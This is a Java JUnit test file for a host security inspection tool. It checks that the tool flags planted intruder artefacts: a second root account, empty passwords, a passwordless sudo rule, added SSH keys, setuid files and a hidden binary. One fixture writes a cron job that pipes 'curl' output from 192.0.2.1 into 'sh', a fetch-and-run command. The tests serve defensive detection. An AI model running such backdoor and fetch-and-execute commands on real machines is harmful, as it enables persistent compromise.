package dev.reeve.inspect.security;

import static org.assertj.core.api.Assertions.assertThat;

import dev.reeve.finding.Finding;
import dev.reeve.finding.Severity;
import dev.reeve.inspect.Accepts;
import dev.reeve.inspect.HostCheck;
import dev.reeve.inspect.Look;
import dev.reeve.inventory.HostLimits;
import dev.reeve.inventory.HostRules;
import dev.reeve.survey.Past;
import dev.reeve.survey.Survey;
import dev.reeve.survey.Unseen;
import java.io.IOException;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The checks against this machine, each made red by its real cause. */
class ThisHostTest {
    private static final String KEY =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKk7s6p8u3c0vQ0a3p4dGq6C9m3cVhY9q0t7R8B9xX1y eve@example";

    /** Adds accounts to copies of the files that hold them. */
    private static final String ACCOUNTS = """
            cp /etc/passwd /etc/shadow /etc/group $T/
            echo 'toor:x:0:0:root again:/root:/bin/bash' >> $T/passwd
            echo 'guest:x:2001:2001::/nonexistent:/bin/sh' >> $T/passwd
            echo 'old:x:2002:2002::/nonexistent:/bin/sh' >> $T/passwd
            echo 'nis::2003:2003::/nonexistent:/usr/sbin/nologin' >> $T/passwd
            echo 'toor:$6$abc$hashhashhash:20000:0:99999:7:::' >> $T/shadow
            echo 'guest::20000:0:99999:7:::' >> $T/shadow
            echo 'old:$y$j9T$secrethash:1000:0:99999:7:::' >> $T/shadow
            echo 'wheel2:$6$grouphash:2009:old' >> $T/group
            for f in passwd shadow group; do mount --bind $T/$f /etc/$f; done
            """;

    private static Map<String, String> state(Look look, String check) {
        return ((Accepts) HostLab.check(check)).state(look).orElseThrow();
    }

    /** What is there is accepted, and then something happens. */
    private static Look after(String setup) throws IOException, InterruptedException {
        Look before = HostLab.look("", HostRules.USUAL, Past.NONE);
        Map<String, Map<String, String>> states = new HashMap<>();
        for (Accepts check : SecurityChecks.accepting()) {
            check.state(before).ifPresent(state -> states.put(check.kind(), state));
        }
        return HostLab.look(setup, HostRules.USUAL, new HostLab.Known(List.of(), states));
    }

    @Test
    void accountsOfAnIntruderAreFoundAndNoHashLeavesTheHost() throws Exception {
        Look look = after(ACCOUNTS);
        assertThat(HostLab.found(look, "root-accounts")).containsExactly("second-root toor");
        assertThat(HostLab.found(look, "passwords")).containsExactly("empty-password guest", "empty-password nis");
        assertThat(HostLab.findings(look, "passwords"))
                .extracting(Finding::severity)
                .containsExactly(Severity.CRITICAL, Severity.WARNING);
        assertThat(HostLab.found(look, "accounts"))
                .containsExactly("account-added guest", "account-added nis", "account-added old", "account-added toor");
        assertThat(HostLab.findings(look, "accounts").get(2).arguments().get("now"))
                .isEqualTo("uid 2002, gid 2002, groups 2002 wheel2, home /nonexistent, shell /bin/sh");
        String raw = look.section(Accounts.SECTION.id()).text();
        assertThat(raw)
                .contains("toor:x:0")
                .doesNotContain("hash")
                .doesNotContain("$6$")
                .doesNotContain("$y$");
        HostRules strict = new HostRules(
                List.of(),
                HostLimits.USUAL,
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                null,
                null,
                List.of(),
                List.of(),
                dev.reeve.inventory.LoginRules.USUAL,
                new dev.reeve.inventory.PasswordRules(Duration.ofDays(3650)),
                null,
                List.of());
        Look strictly = new Look(look.host(), look.answer(), look.identity(), strict, look.past(), look.now());
        assertThat(HostLab.found(strictly, "passwords"))
                .contains("old-password old")
                .doesNotContain("old-password toor");
    }

    @Test
    void thisHostAsItIsHasNoDifferenceFromWhatWasJustAccepted() throws Exception {
        Look look = after("");
        for (String check : List.of("accounts", "sudoers", "crontabs", "authorised-keys", "accepted-state")) {
            assertThat(HostLab.found(look, check)).as(check).isEmpty();
            assertThat(HostLab.check(check).judge(look)).as(check).isNotEmpty();
        }
        Look first = HostLab.look("", HostRules.USUAL, Past.NONE);
        assertThat(HostLab.findings(first, "accepted-state"))
                .singleElement()
                .satisfies(note -> assertThat(note.severity()).isEqualTo(Severity.NOTE));
    }

    @Test
    void rightsJobsAndKeysThatWereAddedAreFound() throws Exception {
        Look look = after("""
                mkdir $T/sudoers.d $T/cron.d $T/cron.daily $T/home $T/home/.ssh
                printf '# a comment\\neve ALL=(ALL) \\\\\\n  NOPASSWD: ALL\\n\\n' > $T/sudoers.d/eve
                printf '* * * * * root curl -u eve:hunter2 http://192.0.2.1/x | sh\\n#no\\n' > $T/cron.d/eve
                printf '#!/bin/sh\\necho' > $T/cron.daily/eve
                cp /etc/passwd $T/passwd; echo "eve:x:3000:3000::$T/home:/bin/sh" >> $T/passwd
                printf '%s\\n# ssh-rsa AAAAB3Nz\\nfrom="192.0.2.0/24,!192.0.2.9",command="echo \\\\"a b\\\\"" %s\\nrubbish\\n' \
                'KEY' 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB two words' > $T/home/.ssh/authorized_keys
                ln -s /etc/shadow $T/home/.ssh/authorized_keys2
                mount --bind $T/passwd /etc/passwd; mount --bind $T/sudoers.d /etc/sudoers.d
                mount --bind $T/cron.d /etc/cron.d; mount --bind $T/cron.daily /etc/cron.daily
                """.replace("KEY", KEY));
        assertThat(HostLab.found(look, "sudoers"))
                .contains("sudo-rule-added /etc/sudoers.d/eve: eve ALL=(ALL) NOPASSWD: ALL");
        assertThat(HostLab.found(look, "crontabs"))
                .contains(
                        "cron-job-added /etc/cron.d/eve: * * * * * root curl -u eve:*** http://192.0.2.1/x | sh",
                        "cron-job-added /etc/cron.daily/eve")
                .noneMatch(each -> each.contains("#no"));
        List<Finding> keys = HostLab.findings(look, "authorised-keys");
        assertThat(keys).extracting(Finding::code).containsOnly("inspect.key-added");
        assertThat(keys)
                .extracting(finding -> finding.arguments().get("now"))
                .contains(
                        "ssh-ed25519 eve@example",
                        "ssh-rsa two words [from=\"192.0.2.0/24,!192.0.2.9\",command=\"echo \\\"a b\\\"\"]",
                        "yes");
        assertThat(look.section("authorised-keys").text())
                .doesNotContain("root:")
                .doesNotContain("rubbish");
    }

    @Test
    void fingerprintsAreThoseOfSshKeygen() throws Exception {
        Process keygen = new ProcessBuilder("ssh-keygen", "-l", "-f", "-").start();
        keygen.getOutputStream().write(KEY.getBytes(StandardCharsets.US_ASCII));
        keygen.getOutputStream().close();
        String said = new String(keygen.getInputStream().readAllBytes(), StandardCharsets.US_ASCII);
        assertThat(said).contains(KeyLine.of(KEY).orElseThrow().fingerprint());
    }

    @Test
    void portsThatMustAndMustNotBeOpen() throws Exception {
        try (ServerSocket any = new ServerSocket(0);
                ServerSocket here = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress());
                ServerSocket gone = new ServerSocket(0)) {
            String open = Integer.toString(any.getLocalPort());
            String loopback = Integer.toString(here.getLocalPort());
            String silent = Integer.toString(gone.getLocalPort());
            gone.close();
            HostRules rules = HostLab.rules(
                    List.of(),
                    List.of(open, loopback, "127.0.0.1:" + loopback, silent, open + "/udp"),
                    List.of(open, loopback, "[::1]:" + silent));
            for (String hide :
                    List.of("", "mount -t tmpfs none $T; touch $T/ss; mount --bind $T/ss $(command -v ss)")) {
                Look look = HostLab.look(hide, rules, HostLab.Known.accepted("listening-ports", Map.of()));
                assertThat(HostLab.found(look, "required-ports"))
                        .containsExactly(
                                "port-silent port " + loopback,
                                "port-silent port " + silent,
                                "port-silent port " + open + "/udp");
                assertThat(HostLab.found(look, "closed-ports")).containsExactly("port-open port " + open);
                assertThat(HostLab.found(look, "listening-ports"))
                        .contains("listener-added " + open + "/tcp")
                        .noneMatch(each -> each.contains(loopback));
            }
            Look look = HostLab.look("", rules, Past.NONE);
            assertThat(HostLab.findings(look, "closed-ports").get(0).arguments())
                    .containsEntry("program", "java");
        }
    }

    @Test
    void certificatesThatEndAndThoseThatAreNotThere() throws Exception {
        String setup = """
                mount -t tmpfs none /mnt; mkdir /mnt/live /mnt/nginx
                for d in 3 10 400; do openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days $d \
                -subj "/CN=web$d" -keyout $T/k -out $T/c 2>/dev/null; cat $T/k $T/c > /mnt/live/$d.pem; cp $T/c $T/$d.crt; done
                echo 'no certificate' > /mnt/live/empty.pem; cp $T/3.crt /mnt/other.crt
                head -c 300 /mnt/other.crt > /mnt/live/cut.pem; echo '-----END CERTIFICATE-----' >> /mnt/live/cut.pem
                mount --bind /mnt/nginx /etc/ssl
                mkdir /etc/nginx 2>/dev/null || true; mount -t tmpfs none /etc/nginx 2>/dev/null
                printf 'server {\\n\\tssl_certificate "/mnt/other.crt";\\n}\\n' > /etc/nginx/site
                """;
        HostRules rules = HostLab.rules(
                List.of("/mnt/live/*.pem", "/mnt/live/cut.pem", "/mnt/none.pem", "/mnt/no ne/*"), List.of(), List.of());
        Look look = HostLab.look(setup, rules, Past.NONE);
        HostLab.run("rmdir", "/etc/nginx");
        assertThat(HostLab.found(look, "certificate-files"))
                .containsExactlyInAnyOrder(
                        "certificate-expires /mnt/live/3.pem",
                        "certificate-expires /mnt/live/10.pem",
                        "certificate-expires /mnt/other.crt",
                        "certificate-unreadable /mnt/live/cut.pem",
                        "certificate-missing /mnt/none.pem",
                        "certificate-missing /mnt/no ne/*");
        assertThat(HostLab.findings(look, "certificate-files"))
                .filteredOn(finding -> finding.code().endsWith("expires"))
                .extracting(Finding::severity)
                .containsExactlyInAnyOrder(Severity.WARNING, Severity.CRITICAL, Severity.CRITICAL);
        assertThat(look.section("certificates").text())
                .doesNotContain("PRIVATE")
                .doesNotContain("no certificate");
        Look later = new Look(
                look.host(),
                look.answer(),
                look.identity(),
                rules,
                Past.NONE,
                look.now().plus(Duration.ofDays(11)));
        assertThat(HostLab.found(later, "certificate-files"))
                .contains("certificate-expired /mnt/live/3.pem", "certificate-expired /mnt/live/10.pem")
                .noneMatch(each -> each.contains("400"));
    }

    @Test
    void withoutRightsWhatIsNotSeenIsSaid() throws Exception {
        List<String> nobody = List.of("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "sh");
        Look before = HostLab.look("", HostRules.USUAL, Past.NONE);
        Map<String, String> sudoers = state(before, "sudoers");
        Look look = HostLab.look(
                nobody, "", HostRules.USUAL, HostLab.Known.accepted("sudoers", sudoers), SecurityChecks.all());
        for (String check : List.of("passwords", "sudoers", "crontabs", "sshd", "authorised-keys")) {
            assertThat(HostLab.findings(look, check))
                    .as(check)
                    .extracting(Finding::code)
                    .containsExactly(Survey.INSPECT.problem(Unseen.NOT_ALLOWED).code());
        }
        assertThat(HostLab.found(look, "root-accounts")).isEmpty();
        assertThat(HostLab.found(look, "accounts")).isEmpty();
        for (Accepts check : SecurityChecks.accepting()) {
            // Not log-ins: the records of last, which everybody may read, lack those without a terminal.
            boolean whole = List.of("accounts", "listening-ports").contains(check.kind());
            assertThat(check.state(look).isPresent()).as(check.kind()).isEqualTo(whole);
        }
    }

    @Test
    void setuidFilesAreFound() throws Exception {
        Look look = slow("mount -t tmpfs none /mnt; cp /bin/true '/mnt/a b'; chmod 4755 '/mnt/a b'");
        Map<String, String> accepted = new HashMap<>(state(look, "setuid-files"));
        assertThat(accepted).containsKey("/usr/bin/su").containsEntry("/mnt/a b", "-rwsr-xr-x 0:0");
        accepted.remove("/mnt/a b");
        Past past = HostLab.Known.accepted("setuid-files", accepted);
        Look compared = new Look(look.host(), look.answer(), look.identity(), look.rules(), past, look.now());
        assertThat(HostLab.found(compared, "setuid-files")).containsExactly("setuid-file-added /mnt/a b");
    }

    private static Look slow(String setup) throws IOException, InterruptedException {
        HostCheck check = HostLab.check("setuid-files");
        List<dev.reeve.machine.collect.Section> sections = List.of(
                dev.reeve.machine.collect.HostIdentity.SECTION,
                check.sections(HostRules.USUAL).get(0));
        return HostLab.look(HostLab.raw(List.of("sh"), setup, sections), HostRules.USUAL, Past.NONE);
    }
}
